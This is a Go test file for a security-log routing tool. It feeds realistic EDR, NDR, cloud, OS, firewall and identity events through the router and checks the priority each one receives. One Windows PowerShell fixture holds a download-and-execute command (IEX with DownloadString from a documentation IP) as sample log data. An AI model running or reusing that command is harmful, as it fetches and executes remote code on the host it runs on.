package main

// Review of the starter routing rules (rules/*.yaml) and normalization
// profiles (rules/profiles/*.yaml) against the mission:
//
//   P1 (SIEM)       EDR, NDR and cloud threat detection findings
//   P2 (OpenSearch) OS security logs, firewalls, identity providers, email
//                   metadata, CloudTrail, raw EDR/NDR sensor telemetry
//   P3 (archive)    application logs, vulnerability scanner output
//
// Every case runs realistic vendor events through `router explain` with the
// example configuration (the same normalize + profile + rule path the router
// uses) and checks the priority, or the normalized shape a rule depends on.
// Each test failed before the fix of the rule or profile it names (the
// comments describe the rules as they were found).

import (
	"encoding/json"
	"strings"
	"testing"
)

type ruleResult struct {
	Line         int            `json:"line"`
	Rule         string         `json:"rule"`
	Priority     string         `json:"priority"`
	Destinations []string       `json:"destinations"`
	SourceType   string         `json:"source_type"`
	Event        map[string]any `json:"event"`
}

// ruleExplain runs `router explain -o json` on lines (NDJSON, or syslog
// lines when format is "syslog") with the example configuration and its
// rules on disk, as if sent with sourcetype ("" for none).
func ruleExplain(t *testing.T, sourcetype, format string, lines ...string) []ruleResult {
	t.Helper()
	args := []string{"explain", "-c", "../../config.example.yaml", "-o", "json"}
	if sourcetype != "" {
		args = append(args, "--sourcetype", sourcetype)
	}
	if format != "" {
		args = append(args, "--format", format)
	}
	out, err := run(t, strings.Join(lines, "\n")+"\n", args...)
	if err != nil {
		t.Fatalf("explain: %v\n%s", err, out)
	}
	var res []ruleResult
	for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
		var r ruleResult
		if err := json.Unmarshal([]byte(l), &r); err != nil {
			t.Fatalf("explain output %q: %v", l, err)
		}
		res = append(res, r)
	}
	if len(res) != len(lines) {
		t.Fatalf("%d results for %d lines:\n%s", len(res), len(lines), out)
	}
	return res
}

func ruleOne(t *testing.T, sourcetype, format, line string) ruleResult {
	t.Helper()
	return ruleExplain(t, sourcetype, format, line)[0]
}

// field returns the value at a dotted path of the normalized event.
func (r ruleResult) field(path string) any {
	var cur any = r.Event
	for _, k := range strings.Split(path, ".") {
		m, ok := cur.(map[string]any)
		if !ok {
			return nil
		}
		cur = m[k]
	}
	return cur
}

func (r ruleResult) String() string {
	ev, _ := json.Marshal(r.Event)
	return r.Priority + " by rule " + r.Rule + " (source_type " + r.SourceType + "): " + string(ev)
}

// --- CrowdStrike Falcon --------------------------------------------------------

// TestFalconStreamNonDetectionsNotP1: edr-crowdstrike-detection
// (rules/10-p1-threat-detection.yaml:52-57) takes every crowdstrike.falcon
// event that is not one of four audit types. The Falcon streaming API also
// carries ScheduledReportNotificationEvent (a scheduled report is ready) and
// FirewallMatchEvent (a Falcon Firewall rule matched: firewall telemetry),
// which are not findings. Expected: P2 (edr-crowdstrike-audit, "Falcon
// streaming API events that are not detections"); they get P1 and go to the
// SIEM. Both with the HEC sourcetype and without one (the crowdstrike.falcon
// profile detects the stream and names the dataset).
func TestFalconStreamNonDetectionsNotP1(t *testing.T) {
	events := map[string]string{
		"ScheduledReportNotificationEvent": `{"metadata":{"customerIDString":"caf779758ace8f15fdc45d9b477cba87","offset":4035600,"eventType":"ScheduledReportNotificationEvent","eventCreationTime":1795824000002,"version":"1.0"},"event":{"UserUUID":"e5b1c0de-0000-4000-8000-000000000001","UserID":"analyst@corp.example","ExecutionID":"5f1e","ReportID":"9b2a","ReportName":"Weekly host inventory","ReportType":"hosts","ReportFileReference":"reports/9b2a.csv","Status":"DONE"}}`,
		"FirewallMatchEvent":               `{"metadata":{"customerIDString":"caf779758ace8f15fdc45d9b477cba87","offset":4035601,"eventType":"FirewallMatchEvent","eventCreationTime":1795824000002,"version":"1.0"},"event":{"DeviceId":"4f1b9a0c2d","Ipv":"ipv4","ConnectionDirection":"1","EventType":"FirewallRuleIP4Matched","HostName":"WS-0142","LocalAddress":"10.20.3.41","LocalPort":"51000","RemoteAddress":"8.8.8.8","RemotePort":"53","Protocol":"17","RuleAction":"1","RuleName":"allow dns","Timestamp":"1795824000"}}`,
	}
	for name, ev := range events {
		for _, st := range []string{"crowdstrike.falcon", ""} {
			r := ruleOne(t, st, "", ev)
			if r.Priority != "P2" {
				t.Errorf("%s (sourcetype %q): want P2 (not a finding), got %s", name, st, r)
			}
		}
	}
}

// TestFalconCEFAuditNotP1: the Falcon SIEM Connector sends the stream
// as CEF with the event type as the CEF signature id
// (CEF:0|CrowdStrike|FalconHost|1.0|AuthActivityAuditEvent|...). The syslog
// input names it crowdstrike.falcon, but neither the crowdstrike.falcon
// profile (rules/profiles/10-edr.yaml:11-37, no mapping of cef.signature_id)
// nor edr-crowdstrike-detection (rules/10-p1-threat-detection.yaml:52-57,
// which excludes audit events only by event.action/metadata.eventType) sees
// the type, so console logins and stream start/stop audits land in the SIEM
// as P1. Expected: P2 (edr-crowdstrike-audit), as for the same events as JSON.
func TestFalconCEFAuditNotP1(t *testing.T) {
	lines := []string{
		`<14>Nov 28 10:00:00 siem-connector CEF:0|CrowdStrike|FalconHost|1.0|AuthActivityAuditEvent|Auth Activity Audit Event|2|duser=analyst@corp.example cs1Label=OperationName cs1=userAuthenticate cs2Label=ServiceName cs2=CrowdStrike Authentication outcome=true`,
		`<14>Nov 28 10:00:01 siem-connector CEF:0|CrowdStrike|FalconHost|1.0|UserActivityAuditEvent|User Activity Audit Event|2|duser=admin@corp.example cs1Label=OperationName cs1=detection_update cs2Label=ServiceName cs2=detections`,
	}
	for i, r := range ruleExplain(t, "", "syslog", lines...) {
		if r.SourceType != "crowdstrike.falcon" {
			t.Fatalf("line %d: the syslog input no longer names it crowdstrike.falcon: %s", i+1, r)
		}
		if r.Priority != "P2" {
			t.Errorf("line %d: Falcon console audit event via CEF: want P2, got %s", i+1, r)
		}
	}
}

// --- NDR -------------------------------------------------------------------------

// TestDarktraceModelBreachIsP1: the mission names Darktrace alerts as
// NDR alerts for the SIEM, but no starter rule (rules/10-p1-threat-
// detection.yaml) matches Darktrace at all: a model breach alert falls to the
// default, P3, and is never seen by an analyst. Expected: P1.
func TestDarktraceModelBreachIsP1(t *testing.T) {
	ev := `{"commentCount":0,"pbid":184223,"time":1795824000000,"creationTime":1795824001000,"model":{"then":{"name":"Anomalous Connection::Data Sent to Rare Domain","pid":321,"phid":5541,"uuid":"80010119-6d7f-0000-0305-5e0000000325","tags":["AP: Exfiltration"],"description":"A device sent an unusual volume of data to a rare external endpoint."},"now":{"name":"Anomalous Connection::Data Sent to Rare Domain","pid":321,"phid":5541}},"triggeredComponents":[{"time":1795823999000,"cbid":774411,"cid":9910,"chid":22411,"size":1,"threshold":10485760,"interval":3600,"metric":{"mlid":77,"name":"externalclientdatatransfervolume","label":"External Data Transfer"}}],"score":0.87,"device":{"did":412,"ip":"10.20.3.41","hostname":"ws-0142","typename":"Desktop"}}`
	r := ruleOne(t, "darktrace.model_breach_alert", "", ev)
	if r.Priority != "P1" {
		t.Errorf("Darktrace model breach alert: want P1 (NDR alert), got %s", r)
	}
}

// TestZeekStockJSONLogsAreP2: stock Zeek JSON logs (policy/tuning/
// json-logs.zeek) carry no _path (the log name is the file name): a dns.log
// or ssl.log record sent without a source type (plain NDJSON, the README's
// case for fallbacks) or with a Splunk one (bro:dns:json) is only caught by
// ndr-zeek-telemetry (rules/20-p2-security-telemetry.yaml:54-57) if it is
// a conn.log record (conn_state) or a Corelight one (_path and _system_name).
// Expected: P2 (NDR telemetry); they get P3.
func TestZeekStockJSONLogsAreP2(t *testing.T) {
	dns := `{"ts":1795824000.306059,"uid":"CMdzit1AMNsmfAIiQc","id.orig_h":"10.20.3.41","id.orig_p":36844,"id.resp_h":"10.20.0.1","id.resp_p":53,"proto":"udp","trans_id":8555,"query":"update.example.com","qclass":1,"qclass_name":"C_INTERNET","qtype":1,"qtype_name":"A","rcode":0,"rcode_name":"NOERROR","AA":false,"TC":false,"RD":true,"RA":true,"Z":0,"answers":["203.0.113.80"],"TTLs":[300.0],"rejected":false}`
	ssl := `{"ts":1795824001.5,"uid":"CHhAvVGS1DHFjwGM9","id.orig_h":"10.20.3.41","id.orig_p":52344,"id.resp_h":"203.0.113.80","id.resp_p":443,"version":"TLSv13","cipher":"TLS_AES_128_GCM_SHA256","server_name":"update.example.com","resumed":false,"established":true,"ssl_history":"CsiI"}`
	for _, c := range []struct{ st, ev string }{{"", dns}, {"", ssl}, {"bro:dns:json", dns}} {
		r := ruleOne(t, c.st, "", c.ev)
		if r.Priority != "P2" {
			t.Errorf("stock Zeek JSON record (sourcetype %q): want P2, got %s", c.st, r)
		}
	}
}

// TestZeekDetectedDatasetFollowsPath: the zeek.conn profile
// (rules/profiles/20-ndr.yaml:22-44) detects any Corelight/streamed Zeek
// record (uid, id.orig_h, _path) and names its dataset after the profile,
// zeek.conn, whatever the log: a notice.log record becomes a "zeek.conn"
// event in the SIEM and a dns.log record a "zeek.conn" event in OpenSearch.
// It also renames _path away before the rules run, so the `_path ==
// "notice"` clause of ndr-zeek-notice (rules/10-p1-threat-detection.yaml:100)
// can never match a detected record. Expected: the dataset is zeek.<_path>
// (zeek.notice, zeek.dns), as with the matching HEC sourcetype.
func TestZeekDetectedDatasetFollowsPath(t *testing.T) {
	for path, ev := range map[string]string{
		"notice": `{"_path":"notice","_system_name":"zeek-core-01","_write_ts":"2026-11-28T10:00:00.600Z","ts":"2026-11-28T10:00:00.500Z","uid":"CHhAvVGS1DHFjwGM9","id.orig_h":"10.20.3.41","id.orig_p":52344,"id.resp_h":"203.0.113.80","id.resp_p":443,"proto":"tcp","note":"SSL::Invalid_Server_Cert","msg":"SSL certificate validation failed with (self signed certificate)","actions":["Notice::ACTION_LOG"],"suppress_for":3600.0}`,
		"dns":    `{"_path":"dns","_system_name":"zeek-core-01","_write_ts":"2026-11-28T10:00:00.600Z","ts":"2026-11-28T10:00:00.500Z","uid":"CMdzit1AMNsmfAIiQc","id.orig_h":"10.20.3.41","id.orig_p":36844,"id.resp_h":"10.20.0.1","id.resp_p":53,"proto":"udp","query":"update.example.com","qtype_name":"A","rcode_name":"NOERROR"}`,
	} {
		r := ruleOne(t, "", "", ev)
		if r.SourceType != "zeek."+path {
			t.Errorf("Zeek %s.log record detected without a source type: want dataset zeek.%s, got %s", path, path, r)
		}
	}
}

// --- Cloud threat detection -----------------------------------------------------

// TestGuardDutyNonFindingEventsNotP1: cloud-aws-guardduty
// (rules/10-p1-threat-detection.yaml:113) matches `source == "aws.guardduty"`,
// i.e. every EventBridge event GuardDuty emits, while its description only
// claims "GuardDuty Finding" events. GuardDuty also emits one "GuardDuty
// Malware Protection Object Scan Result" per scanned S3 object, clean ones
// included (a malicious object also yields a real finding), and "GuardDuty
// Runtime Protection Unhealthy/Healthy" agent coverage changes. Expected: not
// P1 (no finding); they get P1 and flood the SIEM.
func TestGuardDutyNonFindingEventsNotP1(t *testing.T) {
	for _, ev := range []string{
		`{"version":"0","id":"7f1e2d3c-0000-4000-8000-00000000a001","detail-type":"GuardDuty Malware Protection Object Scan Result","source":"aws.guardduty","account":"418295730164","time":"2026-11-28T10:00:00Z","region":"us-east-1","resources":["arn:aws:guardduty:us-east-1:418295730164:malware-protection-plan/b4c7f464ab3a4EXAMPLE"],"detail":{"schemaVersion":"1.0","scanStatus":"COMPLETED","resourceType":"S3_OBJECT","s3ObjectDetails":{"bucketName":"customer-uploads","objectKey":"invoices/2026/11/inv-4411.pdf","eTag":"0a1b2c3d","versionId":"3HL4kqtJlcpXroDTDmJ","s3Throttled":false},"scanResultDetails":{"scanResultStatus":"NO_THREATS_FOUND","threats":null}}}`,
		`{"version":"0","id":"7f1e2d3c-0000-4000-8000-00000000a002","detail-type":"GuardDuty Runtime Protection Unhealthy","source":"aws.guardduty","account":"418295730164","time":"2026-11-28T10:00:00Z","region":"us-east-1","resources":[],"detail":{"schemaVersion":"1.0","resourceAccountId":"418295730164","currentStatus":"UNHEALTHY","previousStatus":"HEALTHY","resourceDetails":{"resourceType":"EKS","eksClusterDetails":{"clusterName":"prod-eu","availabilityZone":"us-east-1a"}},"issue":"The security agent is not reporting."}}`,
	} {
		r := ruleOne(t, "", "", ev)
		if r.Priority == "P1" {
			t.Errorf("GuardDuty EventBridge event that is not a finding: want P2 or P3, got %s", r)
		}
	}
}

// TestSecurityHubInspectorVulnNotP1: cloud-aws-securityhub
// (rules/10-p1-threat-detection.yaml:121-124) takes every ASFF finding.
// Security Hub aggregates Amazon Inspector, a vulnerability scanner: an
// Inspector CVE finding is vulnerability scanner output, which the mission
// and rules/30-p3-application-and-scanners.yaml ("a critical CVE on a server
// is a ticket, not an incident") keep out of the SIEM. Expected: not P1
// (P3); it gets P1.
func TestSecurityHubInspectorVulnNotP1(t *testing.T) {
	ev := `{"SchemaVersion":"2018-10-08","Id":"arn:aws:inspector2:us-east-1:418295730164:finding/0d3a6e2f9b8c4d1e","ProductArn":"arn:aws:securityhub:us-east-1::product/aws/inspector","ProductName":"Inspector","CompanyName":"Amazon","Region":"us-east-1","GeneratorId":"AWSInspector","AwsAccountId":"418295730164","Types":["Software and Configuration Checks/Vulnerabilities/CVE"],"FirstObservedAt":"2026-11-20T10:00:00Z","LastObservedAt":"2026-11-28T10:00:00Z","CreatedAt":"2026-11-20T10:00:00Z","UpdatedAt":"2026-11-28T10:00:00Z","Severity":{"Label":"HIGH","Normalized":70},"Title":"CVE-2024-6387 - openssh-server","Vulnerabilities":[{"Id":"CVE-2024-6387","Cvss":[{"Version":"3.1","BaseScore":8.1}],"VulnerablePackages":[{"Name":"openssh-server","Version":"8.9p1"}]}],"Resources":[{"Type":"AwsEc2Instance","Id":"arn:aws:ec2:us-east-1:418295730164:instance/i-0abc12de34f567890"}],"RecordState":"ACTIVE","Workflow":{"Status":"NEW"}}`
	for _, st := range []string{"", "aws.securityhub"} {
		r := ruleOne(t, st, "", ev)
		if r.Priority == "P1" {
			t.Errorf("Inspector CVE finding via Security Hub (sourcetype %q): want P3 (vulnerability scanner output), got %s", st, r)
		}
	}
}

// TestCloudTrailViaEventBridgeIsP2: CloudTrail records delivered
// through EventBridge ("AWS API Call via CloudTrail", "AWS Console Sign In
// via CloudTrail") carry the record under detail; cloud-aws-cloudtrail
// (rules/20-p2-security-telemetry.yaml:144) only knows the bare record, so a
// console sign-in falls to P3, while the GuardDuty rule does handle the
// EventBridge envelope. Expected: P2.
func TestCloudTrailViaEventBridgeIsP2(t *testing.T) {
	ev := `{"version":"0","id":"6f1e0c2a-0000-4000-8000-00000000b001","detail-type":"AWS Console Sign In via CloudTrail","source":"aws.signin","account":"418295730164","time":"2026-11-28T10:00:00Z","region":"us-east-1","resources":[],"detail":{"eventVersion":"1.09","userIdentity":{"type":"IAMUser","principalId":"AIDA0000000000EXAMPLE","arn":"arn:aws:iam::418295730164:user/jdoe","accountId":"418295730164","userName":"jdoe"},"eventTime":"2026-11-28T10:00:00Z","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.7","userAgent":"Mozilla/5.0","responseElements":{"ConsoleLogin":"Failure"},"additionalEventData":{"MFAUsed":"No"},"eventID":"3d347dec-417f-44a5-a98f-93cf85cd21c7","readOnly":false,"eventType":"AwsConsoleSignIn","managementEvent":true,"recipientAccountId":"418295730164","eventCategory":"Management"}}`
	r := ruleOne(t, "", "", ev)
	if r.Priority != "P2" {
		t.Errorf("CloudTrail console sign-in via EventBridge: want P2, got %s", r)
	}
}

// --- Operating systems ------------------------------------------------------------

// TestWindowsPowerShellViaNXLogIsP2: os-windows-security
// (rules/20-p2-security-telemetry.yaml:85-87) covers the PowerShell
// Operational channel from Winlogbeat (winlog.channel) but its NXLog branch
// lists only Security and Sysmon, although the description promises
// PowerShell logs "from Winlogbeat (winlog.channel) or NXLog (Channel,
// EventID)". A 4104 script block record from NXLog gets P3. Expected: P2.
func TestWindowsPowerShellViaNXLogIsP2(t *testing.T) {
	ev := `{"EventTime":"2026-11-28 10:00:00","Hostname":"WS-0142.corp.example","Keywords":0,"EventType":"VERBOSE","SeverityValue":1,"Severity":"DEBUG","EventID":4104,"SourceName":"Microsoft-Windows-PowerShell","ProviderGuid":"{A0C1853B-5C40-4B15-8766-3CF1C58F985A}","Version":1,"Task":2,"OpcodeValue":15,"RecordNumber":88231,"ProcessID":6612,"ThreadID":7004,"Channel":"Microsoft-Windows-PowerShell/Operational","Domain":"CORP","AccountName":"jdoe","UserID":"S-1-5-21-1004336348-1177238915-682003330-1104","AccountType":"User","Message":"Creating Scriptblock text (1 of 1):\r\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.80/a.ps1')","MessageNumber":1,"MessageTotal":1,"ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.80/a.ps1')","ScriptBlockId":"5b3e0b4c-0f1d-4c8e-9a52-2f5d8c1e7a10"}`
	r := ruleOne(t, "", "", ev)
	if r.Priority != "P2" {
		t.Errorf("NXLog PowerShell 4104 record: want P2, got %s", r)
	}
}

// TestLinuxAuthProcessNames: os-linux-auth
// (rules/20-p2-security-telemetry.yaml:66-69) falls back on `program`, a
// field the syslog input never writes (it writes process.name), so its list
// is dead for syslog: polkitd, which the rule lists, gets P3 over syslog.
// Neither the rule nor anything else knows sshd-session, the process that
// logs sshd's authentication results since OpenSSH 9.8 ("sshd-session[..]:
// Failed password for ..."), so failed SSH logins get P3, over syslog and as
// JSON alike. Expected: P2 for all.
func TestLinuxAuthProcessNames(t *testing.T) {
	syslog := []string{
		`<85>Nov 28 10:00:00 web01 polkitd[912]: Operator of unix-session:3 successfully authenticated as unix-user:root to gain TEMPORARY authorization for action org.freedesktop.systemd1.manage-units for system-bus-name::1.234 [systemctl restart nginx] (owned by unix-user:jdoe)`,
		`<38>Nov 28 10:00:00 web01 sshd-session[2212]: Failed password for root from 198.51.100.23 port 41234 ssh2`,
		`<86>1 2026-11-28T10:00:01Z web01 sshd-session 2213 - - Accepted publickey for deploy from 10.0.0.9 port 50022 ssh2: ED25519 SHA256:Zm9vYmFy`,
	}
	for i, r := range ruleExplain(t, "", "syslog", syslog...) {
		if r.Priority != "P2" {
			t.Errorf("syslog line %d: want P2 (Linux auth), got %s", i+1, r)
		}
	}
	js := `{"timestamp":"2026-11-28T10:00:00Z","host":"web01","program":"sshd-session","pid":2212,"facility":"auth","severity":"info","message":"Failed password for root from 198.51.100.23 port 41234 ssh2"}`
	if r := ruleOne(t, "", "", js); r.Priority != "P2" {
		t.Errorf("JSON sshd-session record: want P2, got %s", r)
	}
}

// TestSyslogHostKeptAsString: the linux.auth profile renames `host`
// to host.name (rules/profiles/40-os.yaml:8) and the suricata.eve profile
// renames it to observer.hostname (rules/profiles/20-ndr.yaml:18), both for
// a string host. The syslog input writes the sender as the object
// host.hostname, so for syslog-borne auth lines and Suricata EVE-over-syslog
// records the profile moves the whole object: host.name becomes
// {"hostname": "web01"} (observer.hostname {"hostname": "ids01"}). ECS and
// the OpenSearch mapping want a keyword there (the document is rejected
// where host.name is mapped), and a rule `host.name == "web01"` never
// matches. Expected: host.name / observer.hostname stay strings, the sender
// is kept as a string.
func TestSyslogHostKeptAsString(t *testing.T) {
	res := ruleExplain(t, "", "syslog",
		`<86>Nov 28 10:00:00 web01 sudo: jdoe : TTY=pts/0 ; PWD=/home/jdoe ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx`,
		`<12>Nov 28 10:00:00 ids01 suricata[1001]: {"timestamp":"2026-11-28T10:00:00.000000+0000","flow_id":1234567,"in_iface":"eth1","event_type":"alert","src_ip":"10.20.3.41","src_port":51000,"dest_ip":"203.0.113.5","dest_port":443,"proto":"TCP","alert":{"action":"allowed","gid":1,"signature_id":2019401,"rev":3,"signature":"ET POLICY Observed DNS Query to .onion","category":"Potentially Bad Traffic","severity":2}}`,
	)
	for i, c := range []struct{ path, sender string }{{"host.name", "web01"}, {"observer.hostname", "ids01"}} {
		r := res[i]
		if _, isObj := r.field(c.path).(map[string]any); isObj {
			t.Errorf("line %d (%s): %s is an object, want a string: %s", i+1, r.SourceType, c.path, r)
			continue
		}
		if r.field("host.hostname") != c.sender && r.field(c.path) != c.sender {
			t.Errorf("line %d (%s): sender %q lost: %s", i+1, r.SourceType, c.sender, r)
		}
	}
}

// --- Firewalls ---------------------------------------------------------------------

// TestFortiWiFiIsP2: fw-fortinet-fortigate's fallback
// (rules/20-p2-security-telemetry.yaml:94) requires devid to start with
// "FG", while the fortinet.fortigate profile's detect (rules/profiles/
// 50-firewall.yaml:6-7) only needs devid and logid. FortiWiFi units run
// FortiOS and log the same way, with serials starting "FWF". With a
// sourcetype the profile does not know (the Splunk Fortinet add-on's
// fgt_traffic / fortigate_traffic) only the fallback can match, and a
// FortiWiFi traffic log gets P3. Expected: P2 (firewall).
func TestFortiWiFiIsP2(t *testing.T) {
	ev := `{"date":"2026-11-28","time":"10:04:00","devname":"FWF61E-BRANCH","devid":"FWF61E4Q16000001","eventtime":1795824240000000000,"tz":"+0000","logid":"0000000013","type":"traffic","subtype":"forward","level":"notice","vd":"root","srcip":"10.1.1.5","srcport":51234,"srcintf":"wifi","dstip":"8.8.8.8","dstport":53,"dstintf":"wan1","policyid":4,"sessionid":1234567,"proto":17,"action":"accept","service":"DNS","sentbyte":74,"rcvdbyte":90}`
	for _, st := range []string{"fgt_traffic", "fortigate_traffic"} {
		r := ruleOne(t, st, "", ev)
		if r.Priority != "P2" {
			t.Errorf("FortiWiFi traffic log (sourcetype %s): want P2, got %s", st, r)
		}
	}
}

// TestASAFallbackSparesAppLogs: fw-cisco-asa's fallback
// (rules/20-p2-security-telemetry.yaml:109) is an unanchored regex on
// message, tried whatever the dataset: an application log (sourcetype
// app.*) that merely mentions an ASA message id is taken as a firewall log
// and indexed in OpenSearch, against the README's rule that a fallback
// "cannot catch an application log that merely mentions the vendor".
// Expected: P3 (app-logs).
func TestASAFallbackSparesAppLogs(t *testing.T) {
	ev := `{"ts":"2026-11-28T10:00:00.123Z","level":"info","logger":"playbooks.fw_deny_burst","service":"soar-runner","msg":"opened INC-4411: 1200 x %ASA-4-106023 deny from 198.51.100.5 in 5m, owner netops","trace_id":"d0f3eca28977cd6b3a1ddad671eb5ddd"}`
	r := ruleOne(t, "app.soar", "", ev)
	if r.Priority != "P3" {
		t.Errorf("application log mentioning an ASA message id: want P3 (app-logs), got %s", r)
	}
}

// --- Identity ----------------------------------------------------------------------

// TestEntraIDLogCategoriesAreP2: idp-entra-id
// (rules/20-p2-security-telemetry.yaml:124-126) lists five of the Entra ID
// diagnostic-settings categories. AD FS sign-ins (ADFSSignInLogs) are
// sign-in logs of the same export, and UserRiskEvents are Entra ID
// Protection risk detections (leaked credentials, anonymous IP...); both get
// P3. Expected: P2 at least (identity provider).
func TestEntraIDLogCategoriesAreP2(t *testing.T) {
	for _, ev := range []string{
		`{"time":"2026-11-28T10:00:00.0000000Z","resourceId":"/tenants/5e2b1c3d-0000-4000-8000-000000000001/providers/Microsoft.aadiam","operationName":"Sign-in activity","operationVersion":"1.0","category":"ADFSSignInLogs","tenantId":"5e2b1c3d-0000-4000-8000-000000000001","resultType":"50126","resultSignature":"None","resultDescription":"Invalid username or password","durationMs":0,"callerIpAddress":"198.51.100.9","correlationId":"c1d2e3f4-0000-4000-8000-000000000009","Level":4,"properties":{"userPrincipalName":"jdoe@corp.example","ipAddress":"198.51.100.9","authenticationRequirement":"singleFactorAuthentication","status":{"errorCode":50126}}}`,
		`{"time":"2026-11-28T10:00:00.0000000Z","resourceId":"/tenants/5e2b1c3d-0000-4000-8000-000000000001/providers/Microsoft.aadiam","operationName":"User Risk Detection","operationVersion":"1.0","category":"UserRiskEvents","tenantId":"5e2b1c3d-0000-4000-8000-000000000001","correlationId":"c1d2e3f4-0000-4000-8000-00000000000a","Level":4,"properties":{"id":"8a1b","riskEventType":"leakedCredentials","riskLevel":"high","riskState":"atRisk","detectionTimingType":"offline","source":"IdentityProtection","userPrincipalName":"jdoe@corp.example","ipAddress":"198.51.100.9"}}`,
	} {
		r := ruleOne(t, "", "", ev)
		if r.Priority == "P3" {
			t.Errorf("Entra ID %v record: want P2 (identity provider), got %s", r.field("category"), r)
		}
	}
}
